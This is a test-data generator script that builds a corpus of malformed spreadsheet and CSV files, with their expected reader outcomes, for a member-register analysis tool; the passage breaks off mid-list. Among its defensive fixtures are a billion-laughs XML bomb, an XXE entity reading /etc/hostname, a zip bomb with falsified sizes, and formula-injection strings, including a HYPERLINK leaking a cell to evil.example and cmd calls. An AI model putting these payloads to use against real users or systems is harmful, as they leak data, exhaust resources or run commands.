"""Write the bad-input corpus into tests/data/bad/ (deterministic: same bytes on every run).

Every file is a way a hand-exported table really goes wrong: wrong or look-alike headers,
text in numeric cells, out-of-range answers, unknown choices, duplicates, empty or header-only
files, a workbook renamed .csv and the reverse, a corrupt zip, a password-protected workbook, an XML
bomb, BOM / UTF-16 / cp1252 / mojibake / semicolons / ragged rows, Excel error cells, serial dates,
merged headers, formulas, hidden sheets, very long cells, control / zero-width / right-to-left
characters, formula-injection strings.

``EXPECTED.csv`` beside the files says, per file, which ``--kind`` it is checked as (``reader`` =
only :func:`cluster_analysis.readers.read_table`) and what must happen:

- ``error``: a one-line :class:`~cluster_analysis.errors.InputError` matching ``message_regex``;
- ``quarantine``: the file is read, ``rejected_rows`` rows are quarantined, with ``check`` among
  the reasons;
- ``ok``: the file is read with ``rows`` rows and nothing rejected (``rejected_rows`` 0 when the
  kind validates).

The heavy cases (a gigabyte zip bomb, with honest and with lying sizes, and a 1,000,000-row csv) are
not stored: :func:`write_heavy` makes them at test time into a temporary folder.

    python tests/data/make_bad_inputs.py [--out DIR]
"""

from __future__ import annotations

import argparse
import csv
import functools
import io
import shutil
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

HERE = Path(__file__).resolve().parent
DEFAULT_OUT = HERE / "bad"
EXPECTED_COLUMNS = (
    "file",
    "kind",
    "outcome",
    "message_regex",
    "rejected_rows",
    "check",
    "rows",
    "description",
)
#: A fixed timestamp for every zip member, so workbooks are byte-identical on rerun.
_ZIP_DATE = (2026, 1, 1, 0, 0, 0)

REGISTER_HEADER = ["member_id", "name", "member_type", "size_class", "region", "phone", "email"]
REGISTER_ROWS = [
    [
        "GPC-001",
        "Kartuli Karton LLC",
        "packaging_maker",
        "small",
        "Imereti",
        "+995 555 100 001",
        "info@kk.example",
    ],
    [
        "GPC-002",
        "Imereti Foods",
        "packaging_user",
        "medium",
        "Imereti",
        "+995 555 100 002",
        "office@if.example",
    ],
    [
        "GPC-003",
        "Zestaponi Print",
        "service_provider",
        "micro",
        "Imereti",
        "+995 555 100 003",
        "zp@zp.example",
    ],
    [
        "GPC-004",
        "Chiatura Pack",
        "packaging_maker",
        "large",
        "Imereti",
        "+995 555 100 004",
        "cp@cp.example",
    ],
    [
        "GPC-005",
        "Tkibuli Water",
        "packaging_user",
        "small",
        "Imereti",
        "+995 555 100 005",
        "tw@tw.example",
    ],
    [
        "GPC-006",
        "Kutaisi Logistics",
        "service_provider",
        "medium",
        "Imereti",
        "+995 555 100 006",
        "kl@kl.example",
    ],
]

CAPACITY_HEADER = ["respondent_id", "wave", "item", "dimension", "importance", "capability"]
CAPACITY_ROWS = [
    ["GPC-001", "2026-1", "food_safety", "quality", "5", "2"],
    ["GPC-001", "2026-1", "export_marketing", "markets", "4", "3"],
    ["GPC-002", "2026-1", "food_safety", "quality", "4", "4"],
    ["GPC-002", "2026-1", "export_marketing", "markets", "3", "1"],
    ["GPC-003", "2026-1", "food_safety", "quality", "2", "5"],
    ["GPC-003", "2026-1", "export_marketing", "markets", "5", "2"],
]

DEMAND_HEADER = [
    "submission_id",
    "member_id",
    "period",
    "category",
    "item_en",
    "item_ka",
    "quantity",
    "unit",
    "commitment",
    "last_unit_price",
    "currency",
    "specification",
]
DEMAND_ROWS = [
    [
        "S-001",
        "GPC-001",
        "2026-Q1",
        "corrugated_board",
        "3-ply board",
        "3-ფენიანი მუყაო",
        "1200",
        "KGM",
        "firm",
        "2.40",
        "GEL",
        "",
    ],
    [
        "S-002",
        "GPC-002",
        "2026-Q1",
        "corrugated_board",
        "3-ply board",
        "3-ფენიანი მუყაო",
        "800",
        "KGM",
        "conditional",
        "2.55",
        "GEL",
        "",
    ],
    [
        "S-003",
        "GPC-003",
        "2026-Q1",
        "stretch_film",
        "stretch film 23 mic",
        "სტრეჩ-ფირი",
        "150",
        "KGM",
        "indicative",
        "3.10",
        "EUR",
        "23 micron",
    ],
    [
        "S-004",
        "GPC-004",
        "2026-Q1",
        "corrugated_board",
        "3-ply board",
        "3-ფენიანი მუყაო",
        "2",
        "TNE",
        "firm",
        "2300",
        "GEL",
        "",
    ],
    [
        "S-005",
        "GPC-005",
        "2026-Q1",
        "stretch_film",
        "stretch film 23 mic",
        "სტრეჩ-ფირი",
        "90",
        "KGM",
        "firm",
        "",
        "",
        "",
    ],
]
#: The unit and rate tables the demand cases are validated against (in-process schema).
DEMAND_UNITS = [
    ["category", "unit", "base_unit", "factor", "max_quantity"],
    ["corrugated_board", "KGM", "KGM", "1", "1000000"],
    ["corrugated_board", "TNE", "KGM", "1000", "1000"],
    ["stretch_film", "KGM", "KGM", "1", "100000"],
]
DEMAND_RATES = [
    ["currency", "gel_per_unit", "rate_date", "source"],
    ["EUR", "2.95", "2026-01-05", "National Bank of Georgia"],
    ["USD", "2.70", "2026-01-05", "National Bank of Georgia"],
]


@dataclass(frozen=True)
class Case:
    """One corpus file and what must happen to it."""

    file: str
    kind: str
    outcome: str  # "error" | "quarantine" | "ok"
    description: str
    build: Callable[[], bytes]
    message_regex: str = ""
    rejected_rows: int | None = None
    check: str = ""
    rows: int | None = None

    def expected_row(self) -> dict[str, object]:
        return {
            "file": self.file,
            "kind": self.kind,
            "outcome": self.outcome,
            "message_regex": self.message_regex,
            "rejected_rows": "" if self.rejected_rows is None else self.rejected_rows,
            "check": self.check,
            "rows": "" if self.rows is None else self.rows,
            "description": self.description,
        }


# --------------------------------------------------------------------------------------------------
# byte builders


def csv_bytes(
    header: list[str], rows: list[list[str]], *, delimiter: str = ",", encoding: str = "utf-8"
) -> bytes:
    """Return a csv as bytes with \\n line ends (csv module quoting)."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, delimiter=delimiter, lineterminator="\n")
    writer.writerow(header)
    writer.writerows(rows)
    return buffer.getvalue().encode(encoding)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    """Return a zip archive of ``members`` with fixed timestamps (deterministic)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_ZIP_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o600 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


def _normalise_zip(raw: bytes) -> bytes:
    """Rewrite a zip (an openpyxl workbook) with fixed timestamps, so bytes do not change."""
    with zipfile.ZipFile(io.BytesIO(raw)) as archive:
        members = [(info.filename, archive.read(info.filename)) for info in archive.infolist()]
    # docProps/core.xml carries creation times: pin them.
    pinned = []
    for name, data in members:
        if name == "docProps/core.xml":
            import re

            data = re.sub(rb"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", b"2026-01-01T00:00:00Z", data)
        pinned.append((name, data))
    return _zip(pinned)


def workbook_bytes(build: Callable[[object], None]) -> bytes:
    """Return an .xlsx made by openpyxl: ``build(workbook)`` fills it."""
    import openpyxl

    workbook = openpyxl.Workbook()
    build(workbook)
    buffer = io.BytesIO()
    workbook.save(buffer)
    return _normalise_zip(buffer.getvalue())


def table_workbook(header: list[object], rows: list[list[object]]) -> bytes:
    def build(workbook) -> None:
        sheet = workbook.active
        sheet.title = "data"
        sheet.append(header)
        for row in rows:
            sheet.append(row)

    return workbook_bytes(build)


def _replace_member(xlsx: bytes, name: str, data: bytes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
        members = [(i.filename, archive.read(i.filename)) for i in archive.infolist()]
    return _zip([(n, data if n == name else d) for n, d in members])


def xml_bomb_workbook() -> bytes:
    """A valid workbook whose sheet1.xml declares a billion-laughs entity and uses it in a cell."""
    entities = ['<!ENTITY lol0 "lol">'] + [
        f'<!ENTITY lol{i} "{("&lol" + str(i - 1) + ";") * 10}">' for i in range(1, 10)
    ]
    sheet = (
        '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        f"<!DOCTYPE worksheet [{''.join(entities)}]>"
        '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>member_id</t></is></c></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>&lol9;</t></is></c></row></sheetData></worksheet>'
    ).encode()
    return _replace_member(
        table_workbook(["member_id"], [["x"]]), "xl/worksheets/sheet1.xml", sheet
    )


def external_entity_workbook() -> bytes:
    """A workbook whose sheet pulls /etc/hostname through an external entity (XXE)."""
    sheet = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<!DOCTYPE worksheet [<!ENTITY leak SYSTEM "file:///etc/hostname">]>'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>member_id</t></is></c></row>'
        b'<row r="2"><c r="A2" t="inlineStr"><is><t>&leak;</t></is></c></row></sheetData></worksheet>'
    )
    return _replace_member(
        table_workbook(["member_id"], [["x"]]), "xl/worksheets/sheet1.xml", sheet
    )


def password_workbook() -> bytes:
    """An .xlsx encrypted with a password (msoffcrypto-tool; Agile encryption like Excel)."""
    from msoffcrypto.format.ooxml import OOXMLFile

    plain = io.BytesIO(table_workbook(REGISTER_HEADER, REGISTER_ROWS))
    encrypted = io.BytesIO()
    OOXMLFile(plain).encrypt("secret", encrypted)
    # The encryption salt is random: the file differs per run, but its outcome does not. Keep the
    # committed copy stable by reusing an existing file (see main()).
    return encrypted.getvalue()


def old_xls_header() -> bytes:
    """An OLE compound file header (what an old binary .xls starts with) without encryption."""
    return b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"Workbook".ljust(1024, b"\x00")


def errors_workbook() -> bytes:
    """Excel error cells (#DIV/0!, #N/A) in a numeric column: they must not become blanks."""
    return table_workbook(
        CAPACITY_HEADER,
        [
            ["GPC-001", "2026-1", "food_safety", "quality", 5, 2],
            ["GPC-002", "2026-1", "food_safety", "quality", "#DIV/0!", 4],
            ["GPC-003", "2026-1", "food_safety", "quality", 3, "#N/A"],
            ["GPC-004", "2026-1", "food_safety", "quality", 4, 3],
        ],
    )


def formula_workbook() -> bytes:
    """Formula cells saved without a cached value (written by a script, never opened in Excel)."""
    return table_workbook(
        CAPACITY_HEADER,
        [
            ["GPC-001", "2026-1", "food_safety", "quality", 5, 2],
            ["GPC-002", "2026-1", "food_safety", "quality", "=2+2", 4],
            ["GPC-003", "2026-1", "food_safety", "quality", 3, "=E3-1"],
        ],
    )


def formula_cached_workbook() -> bytes:
    """Formula cells with cached values, as Excel saves them: the cached value is the answer."""
    import xlsxwriter

    buffer = io.BytesIO()
    workbook = xlsxwriter.Workbook(buffer, {"in_memory": True})
    workbook.set_properties({"created": __import__("datetime").datetime(2026, 1, 1)})
    sheet = workbook.add_worksheet("data")
    sheet.write_row(0, 0, CAPACITY_HEADER)
    sheet.write_row(1, 0, ["GPC-001", "2026-1", "food_safety", "quality"])
    sheet.write_formula(1, 4, "=2+3", None, 5)
    sheet.write_formula(1, 5, "=1+1", None, 2)
    sheet.write_row(2, 0, ["GPC-002", "2026-1", "food_safety", "quality", 4, 4])
    workbook.close()
    return _normalise_zip(buffer.getvalue())


def serial_dates_workbook() -> bytes:
    """Dates typed as Excel serial numbers (no date format): kept as the numbers, not guessed."""
    return table_workbook(
        ["member_id", "joined"],
        [["GPC-001", 45658], ["GPC-002", 45689], ["GPC-003", "2025-03-01"]],
    )


def merged_header_workbook() -> bytes:
    """A register whose header row is two rows of merged cells (a title over the columns)."""

    def build(workbook) -> None:
        sheet = workbook.active
        sheet.append(["Member register / წევრთა რეესტრი", None, None, None, None, None, None])
        sheet.merge_cells("A1:G1")
        sheet.append(REGISTER_HEADER)
        for row in REGISTER_ROWS:
            sheet.append(row)

    return workbook_bytes(build)


def merged_columns_workbook() -> bytes:
    """Header cells merged across two columns: the second column has no name."""

    def build(workbook) -> None:
        sheet = workbook.active
        sheet.append(["member_id", "type and size", None, "region"])
        sheet.merge_cells("B1:C1")
        sheet.append(["GPC-001", "packaging_maker", "small", "Imereti"])

    return workbook_bytes(build)


def hidden_sheet_workbook() -> bytes:
    """The first sheet is a hidden scratch sheet; the data staff see is on the visible second."""

    def build(workbook) -> None:
        scratch = workbook.active
        scratch.title = "lookup"
        scratch.append(["old", "values"])
        scratch.append(["x", "y"])
        scratch.sheet_state = "hidden"
        data = workbook.create_sheet("register")
        data.append(REGISTER_HEADER)
        for row in REGISTER_ROWS:
            data.append(row)

    return workbook_bytes(build)


def duplicate_header_workbook() -> bytes:
    return table_workbook(
        ["member_id", "member_type", "member_type"],
        [["GPC-001", "packaging_maker", "packaging_user"]],
    )


def zip_without_workbook() -> bytes:
    return _zip([("readme.txt", b"not a workbook")])


# --------------------------------------------------------------------------------------------------
# heavy cases, generated at test time


def _raw_zip(members: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """Write a zip from pre-deflated members: (name, deflated, crc, declared size, method)."""
    body = io.BytesIO()
    central = io.BytesIO()
    dos_time, dos_date = 0, (2026 - 1980) << 9 | 1 << 5 | 1
    for name, data, crc, size, method in members:
        offset = body.tell()
        encoded = name.encode()
        body.write(
            struct.pack(
                "<IHHHHHIIIHH",
                0x04034B50,
                20,
                0,
                method,
                dos_time,
                dos_date,
                crc,
                len(data),
                size,
                len(encoded),
                0,
            )
        )
        body.write(encoded)
        body.write(data)
        central.write(
            struct.pack(
                "<IHHHHHHIIIHHHHHII",
                0x02014B50,
                20,
                20,
                0,
                method,
                dos_time,
                dos_date,
                crc,
                len(data),
                size,
                len(encoded),
                0,
                0,
                0,
                0,
                0,
                offset,
            )
        )
        central.write(encoded)
    directory = central.getvalue()
    end = struct.pack(
        "<IHHHHIIH", 0x06054B50, 0, 0, len(members), len(members), len(directory), body.tell(), 0
    )
    return body.getvalue() + directory + end


@functools.lru_cache(maxsize=2)
def _deflated_padding(head: bytes, tail: bytes, expanded_bytes: int) -> tuple[bytes, int, int]:
    """Return (raw deflate stream, crc32, size) of head + spaces + tail, made once per size."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15)
    crc = zlib.crc32(head)
    parts = [compressor.compress(head)]
    block = b" " * (1 << 20)
    runs = expanded_bytes // len(block)
    for _ in range(runs):
        parts.append(compressor.compress(block))
        crc = zlib.crc32(block, crc)
    parts.append(compressor.compress(tail))
    crc = zlib.crc32(tail, crc)
    parts.append(compressor.flush())
    return b"".join(parts), crc, len(head) + runs * len(block) + len(tail)


def zip_bomb_workbook(expanded_bytes: int, *, lie_about_size: bool) -> bytes:
    """A workbook whose sheet1.xml is valid XML padded with ``expanded_bytes`` of spaces.

    With ``lie_about_size`` the archive declares a tiny size for the sheet, as a hostile file would
    to slip past a check of declared sizes.
    """
    base = table_workbook(["member_id"], [["GPC-001"]])
    head = (
        b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
        b'<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>member_id</t></is></c></row>'
    )
    tail = b"</sheetData></worksheet>"
    deflated, crc, true_size = _deflated_padding(head, tail, expanded_bytes)
    members = []
    with zipfile.ZipFile(io.BytesIO(base)) as archive:
        for info in archive.infolist():
            if info.filename == "xl/worksheets/sheet1.xml":
                declared = 4096 if lie_about_size else true_size
                members.append((info.filename, deflated, crc & 0xFFFFFFFF, declared, 8))
            else:
                data = archive.read(info.filename)
                packer = zlib.compressobj(9, zlib.DEFLATED, -15)
                packed = packer.compress(data) + packer.flush()
                members.append((info.filename, packed, zlib.crc32(data) & 0xFFFFFFFF, len(data), 8))
    return _raw_zip(members)


def million_rows_csv(path: Path, rows: int = 1_000_000) -> Path:
    """Write a register-shaped csv with ``rows`` rows (about 60 MB), streaming."""
    types = ["packaging_maker", "packaging_user", "service_provider", "other"]
    sizes = ["micro", "small", "medium", "large"]
    with path.open("w", encoding="utf-8", newline="") as handle:
        handle.write("member_id,member_type,size_class,region\n")
        chunk = []
        for i in range(rows):
            chunk.append(f"GPC-{i:07d},{types[i % 4]},{sizes[(i // 4) % 4]},Imereti\n")
            if len(chunk) == 10_000:
                handle.write("".join(chunk))
                chunk = []
        handle.write("".join(chunk))
    return path


#: The heavy cases: (file name, kind, outcome, message regex, rows, description).
HEAVY_CASES: list[dict[str, object]] = [
    {
        "file": "zip_bomb_honest.xlsx",
        "kind": "reader",
        "outcome": "error",
        "message_regex": r"would expand to .* MB, above the limit",
        "rows": None,
        "description": "2 MB workbook whose sheet expands to 2 GiB (sizes declared honestly)",
    },
    {
        "file": "zip_bomb_lying.xlsx",
        "kind": "reader",
        "outcome": "error",
        "message_regex": r"(expand|damaged|cannot be read)",
        "rows": None,
        "description": "the same bomb declaring a 4 KB sheet: sizes lie, the expansion must still be capped",
    },
    {
        "file": "million_rows.csv",
        "kind": "register",
        "outcome": "ok",
        "message_regex": "",
        "rows": 1_000_000,
        "description": "1,000,000-row register csv: read and validated in bounded time and memory",
    },
]


def write_heavy(folder: Path, *, bomb_bytes: int = 2 << 30) -> dict[str, Path]:
    """Write the heavy cases into ``folder``; return file name -> path."""
    folder.mkdir(parents=True, exist_ok=True)
    honest = folder / "zip_bomb_honest.xlsx"
    honest.write_bytes(zip_bomb_workbook(bomb_bytes, lie_about_size=False))
    lying = folder / "zip_bomb_lying.xlsx"
    lying.write_bytes(zip_bomb_workbook(bomb_bytes, lie_about_size=True))
    million = million_rows_csv(folder / "million_rows.csv")
    return {p.name: p for p in (honest, lying, million)}


# --------------------------------------------------------------------------------------------------
# the corpus


def _register(
    rows: list[list[str]], header: list[str] = REGISTER_HEADER, **kw
) -> Callable[[], bytes]:
    return lambda: csv_bytes(header, rows, **kw)


def _capacity(rows: list[list[str]]) -> Callable[[], bytes]:
    return lambda: csv_bytes(CAPACITY_HEADER, rows)


def _demand(rows: list[list[str]]) -> Callable[[], bytes]:
    return lambda: csv_bytes(DEMAND_HEADER, rows)


def _with(rows: list[list[str]], index: int, column: int, value: str) -> list[list[str]]:
    changed = [list(r) for r in rows]
    changed[index][column] = value
    return changed


GEORGIAN_REGISTER = [
    [
        "GPC-101",
        "შპს ქართული მუყაო",
        "packaging_maker",
        "small",
        "იმერეთი",
        "+995 555 200 101",
        "a@b.example",
    ],
    [
        "GPC-102",
        "ზესტაფონის ბეჭდვა",
        "service_provider",
        "micro",
        "იმერეთი",
        "+995 555 200 102",
        "c@d.example",
    ],
]
MOJIBAKE = "შპს ქართული მუყაო".encode().decode("cp1252", errors="replace")
LONG_TEXT = "ა" * 40_000 + " end"
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
]

CASES: list[Case] = [
    # ---- files that cannot be read at all --------------------------------------------------------
    Case("empty.csv", "reader", "error", "0-byte csv", lambda: b"", r"empty \(0 bytes\)"),
    Case("empty.xlsx", "reader", "error", "0-byte workbook", lambda: b"", r"empty \(0 bytes\)"),
    Case("blank_lines.csv", "reader", "error", "only blank lines", lambda: b"\n\n \n", r"no text"),
    Case(
        "workbook_renamed.csv",
        "reader",
        "error",
        "an .xlsx renamed to .csv",
        lambda: table_workbook(REGISTER_HEADER, REGISTER_ROWS),
        r"is an Excel workbook but its name ends in '\.csv'",
    ),
    Case(
        "csv_renamed.xlsx",
        "reader",
        "error",
        "a csv renamed to .xlsx",
        _register(REGISTER_ROWS),
        r"is a text \(csv\) file but its name ends in '\.xlsx'",
    ),
    Case(
        "corrupt_zip.xlsx",
        "reader",
        "error",
        "a workbook cut off half-way (truncated download)",
        lambda: table_workbook(REGISTER_HEADER, REGISTER_ROWS)[:1500],
        r"damaged",
    ),
    Case(
        "zip_not_workbook.xlsx",
        "reader",
        "error",
        "a zip archive with no xl/ folder",
        zip_without_workbook,
        r"not an Excel workbook",
    ),
    Case(
        "password_protected.xlsx",
        "reader",
        "error",
        "workbook encrypted with a password",
        password_workbook,
        r"password-protected",
    ),
    Case(
        "old_binary.xlsx",
        "reader",
        "error",
        "an old binary .xls (OLE) renamed .xlsx",
        old_xls_header,
        r"old binary \.xls",
    ),
    Case(
        "old_format.xls",
        "reader",
        "error",
        "the old .xls extension",
        old_xls_header,
        r"\.xls format is not supported",
    ),
    Case(
        "xml_bomb.xlsx",
        "reader",
        "error",
        "billion-laughs entity in sheet1.xml of a valid workbook",
        xml_bomb_workbook,
        r"(cannot be read|entit|DTD|DOCTYPE)",
    ),
    Case(
        "external_entity.xlsx",
        "reader",
        "error",
        "sheet1.xml pulls a local file through an external entity (XXE): nothing may leak",
        external_entity_workbook,
        r"(cannot be read|entit|DTD|DOCTYPE)",
    ),
    Case(
        "not_utf8_cp1252.csv",
        "reader",
        "error",
        "Georgian-less text saved as cp1252 (é, ü)",
        lambda: csv_bytes(["member_id", "name"], [["GPC-001", "Café Müller"]], encoding="cp1252"),
        r"row 2: the text is not UTF-8",
    ),
    Case(
        "mojibake_cp1252.csv",
        "reader",
        "error",
        "Georgian UTF-8 opened as cp1252 and saved again as UTF-8 (áƒ... mojibake)",
        lambda: csv_bytes(["member_id", "name"], [["GPC-001", MOJIBAKE]]),
        r"(mojibake|wrong encoding)",
    ),
    Case(
        "nul_bytes.csv",
        "reader",
        "error",
        "NUL bytes inside a csv (binary data)",
        lambda: b"member_id,name\nGPC-001,ab\x00cd\n",
        r"NUL bytes",
    ),
    Case(
        "ragged_rows.csv",
        "reader",
        "error",
        "a row with more fields than the header",
        lambda: (
            b"member_id,member_type,size_class\nGPC-001,packaging_maker,small\nGPC-002,packaging_user,small,extra\n"
        ),
        r"row.*same number of columns|same number of columns",
    ),
    Case(
        "unclosed_quote.csv",
        "reader",
        "error",
        "a quote opened and never closed",
        lambda: b'member_id,name\nGPC-001,"Kartuli Karton\nGPC-002,Imereti Foods\n',
        r"(quote|same number of columns|cannot be read)",
    ),
    Case(
        "parquet_renamed.csv",
        "reader",
        "error",
        "a parquet file renamed .csv",
        lambda: b"PAR1" + bytes(64) + b"PAR1",
        r"is a parquet file",
    ),
    Case(
        "corrupt.parquet",
        "reader",
        "error",
        "a damaged parquet file",
        lambda: b"PAR1" + b"garbage" * 10 + b"PAR1",
        r"parquet file cannot be read",
    ),
    Case(
        "data.json",
        "reader",
        "error",
        "an unsupported extension",
        lambda: b"{}",
        r"unsupported file type",
    ),
    Case(
        "duplicate_headers.xlsx",
        "reader",
        "error",
        "two columns with the same header",
        duplicate_header_workbook,
        r"appears (twice|more than once)",
    ),
    Case(
        "duplicate_headers.csv",
        "reader",
        "error",
        "two csv columns with the same header",
        lambda: b"member_id,member_type,member_type\nGPC-001,packaging_maker,other\n",
        r"appears (twice|more than once)",
    ),
    # ---- files that read; what they hold is kept exactly ----------------------------------------
    Case(
        "header_only.csv",
        "register",
        "ok",
        "header row and no data",
        _register([]),
        rows=0,
        rejected_rows=0,
    ),
    Case(
        "register_bom.csv",
        "register",
        "ok",
        "UTF-8 with BOM (Excel 'CSV UTF-8')",
        lambda: b"\xef\xbb\xbf" + csv_bytes(REGISTER_HEADER, REGISTER_ROWS),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_utf16.csv",
        "register",
        "ok",
        "UTF-16 LE with BOM, tab-separated (Excel 'Unicode text')",
        lambda: (
            b"\xff\xfe"
            + csv_bytes(REGISTER_HEADER, GEORGIAN_REGISTER, delimiter="\t", encoding="utf-16-le")
        ),
        rows=2,
        rejected_rows=0,
    ),
    Case(
        "register_utf16_nobom.csv",
        "register",
        "ok",
        "UTF-16 LE without a BOM",
        lambda: csv_bytes(REGISTER_HEADER, REGISTER_ROWS, encoding="utf-16-le"),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_semicolons.csv",
        "register",
        "ok",
        "semicolon-separated with decimal commas elsewhere",
        _register(REGISTER_ROWS, delimiter=";"),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "short_rows.csv",
        "register",
        "quarantine",
        "a row with fewer fields than the header (blank size_class)",
        lambda: (
            csv_bytes(
                ["member_id", "member_type", "size_class", "region"],
                [[r[0], r[2], r[3], r[4]] for r in REGISTER_ROWS[:3]],
            )
            + b"GPC-009,packaging_user\n"
        ),
        rejected_rows=1,
        check="not_nullable",
    ),
    Case(
        "register_zero_width_headers.csv",
        "register",
        "ok",
        "zero-width space, BOM and soft hyphen inside headers (invisible in Excel)",
        _register(
            REGISTER_ROWS,
            header=[
                "member\u200b_id",
                "name",
                "member_type\u00ad",
                "\ufeffsize_class",
                "region",
                "phone",
                "email",
            ],
        ),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_rtl_headers.csv",
        "register",
        "ok",
        "right-to-left and left-to-right marks around headers",
        _register(
            REGISTER_ROWS,
            header=[
                "\u200fmember_id",
                "name",
                "\u202bmember_type\u202c",
                "size_class\u200e",
                "region",
                "phone",
                "email",
            ],
        ),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_control_chars.csv",
        "register",
        "ok",
        "control, zero-width and right-to-left override characters inside values (kept as typed)",
        _register(
            _with(
                _with(REGISTER_ROWS, 0, 1, "Kartuli\u0007 Karton\u200b"),
                1,
                1,
                "\u202eGNIKCAP\u202c Foods\x1b[31m",
            )
        ),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_formula_injection.csv",
        "register",
        "ok",
        "formula-injection strings in free-text name cells (must stay text everywhere)",
        _register([_with(REGISTER_ROWS, i, 1, text)[i] for i, text in enumerate(INJECTIONS)]),
        rows=5,
        rejected_rows=0,
    ),
    Case(
        "register_long_cell.csv",
        "register",
        "ok",
        "a 40,000-character name (above Excel's 32,767 cell limit)",
        _register(_with(REGISTER_ROWS, 0, 1, LONG_TEXT)),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register_hidden_sheet.xlsx",
        "register",
        "ok",
        "first sheet hidden (an old lookup); the register is the visible sheet",
        hidden_sheet_workbook,
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "register.xlsx",
        "register",
        "ok",
        "a clean register workbook (control)",
        lambda: table_workbook(REGISTER_HEADER, REGISTER_ROWS),
        rows=6,
        rejected_rows=0,
    ),
    Case(
        "serial_dates.xlsx",
        "reader",
        "ok",
        "dates typed as Excel serial numbers, no date format",
        serial_dates_workbook,
        rows=3,
    ),
    Case(
        "formula_cached.xlsx",
        "reader",
        "ok",
        "formula cells with values cached by Excel",
        formula_cached_workbook,
        rows=2,
    ),
    # ---- header problems --------------------------------------------------------------------------
    Case(
        "register_wrong_headers.csv",
        "register",
        "error",
        "headers from another tool (Code, Company, Sector, Employees)",
        _register(
            REGISTER_ROWS,
            header=["Code", "Company", "Sector", "Employees", "Region", "Phone", "Email"],
        ),
        r"missing column\(s\) 'member_id'",
    ),
    Case(
        "register_missing_column.csv",
        "register",
        "error",
        "the size_class column left out",
        lambda: csv_bytes(
            ["member_id", "member_type", "region"], [[r[0], r[2], r[4]] for r in REGISTER_ROWS]
        ),
        r"missing column\(s\) 'size_class'",
    ),
    Case(
        "register_lookalike_headers.csv",
        "register",
        "error",
        "member_type spelt with Georgian/Cyrillic look-alike letters (mеmber_type with Cyrillic е, sizе_class)",
        _register(
            REGISTER_ROWS,
            header=[
                "member_id",
                "name",
                "m\u0435mber_type",
                "size_cla\u0455s",
                "region",
                "phone",
                "email",
            ],
        ),
        r"mixes Georgian/Cyrillic and Latin",
    ),
    Case(
        "register_georgian_lookalike.csv",
        "register",
        "error",
        "member_id typed with the Georgian letter ი for i (member_იd)",
        _register(
            REGISTER_ROWS,
            header=[
                "member_\u10d8d",
                "name",
                "member_type",
                "size_class",
                "region",
                "phone",
                "email",
            ],
        ),
        r"missing column\(s\) 'member_id'.*mixes Georgian",
    ),
    Case(
        "register_merged_title.xlsx",
        "register",
        "error",
        "a merged title row above the real header row",
        merged_header_workbook,
        r"missing column\(s\)",
    ),
    Case(
        "register_merged_columns.xlsx",
        "register",
        "error",
        "a header merged across two columns (one column has no name)",
        merged_columns_workbook,
        r"missing column\(s\)",
    ),
    # ---- rows quarantined ------------------------------------------------------------------------
    Case(
        "register_unknown_choice.csv",
        "register",
        "quarantine",
        "member type not in the list",
        _register(_with(REGISTER_ROWS, 2, 2, "manufacturer")),
        rejected_rows=1,
        check="unknown_member_type",
    ),
    Case(
        "register_duplicate_member.csv",
        "register",
        "quarantine",
        "the same member id on two rows",
        _register([*REGISTER_ROWS, _with(REGISTER_ROWS, 3, 1, "Chiatura Pack (copy)")[3]]),
        rejected_rows=2,
        check="duplicate_member",
    ),
    Case(
        "capacity_text_in_numbers.csv",
        "capacity-long",
        "quarantine",
        "text in the numeric answer cells ('four', '3 ')",
        _capacity(_with(_with(CAPACITY_ROWS, 1, 4, "four"), 3, 5, "3,5")),
        rejected_rows=2,
        check="coerce_dtype",
    ),
    Case(
        "capacity_out_of_range.csv",
        "capacity-long",
        "quarantine",
        "scale answers 0, 7 and -1 on a 1-5 scale",
        _capacity(_with(_with(_with(CAPACITY_ROWS, 0, 4, "7"), 2, 5, "0"), 4, 4, "-1")),
        rejected_rows=3,
        check="capacity_answer_out_of_scale",
    ),
    Case(
        "capacity_member_twice.csv",
        "capacity-long",
        "quarantine",
        "a member answering twice in one wave",
        _capacity([*CAPACITY_ROWS, ["GPC-002", "2026-1", "food_safety", "quality", "1", "1"]]),
        rejected_rows=2,
        check="duplicate_capacity_answer",
    ),
    Case(
        "capacity_excel_errors.xlsx",
        "capacity-long",
        "quarantine",
        "Excel error cells #DIV/0! and #N/A in answer cells: kept visible and quarantined, not blanked",
        errors_workbook,
        rejected_rows=2,
        check="coerce_dtype",
    ),
    Case(
        "capacity_formulas.xlsx",
        "capacity-long",
        "quarantine",
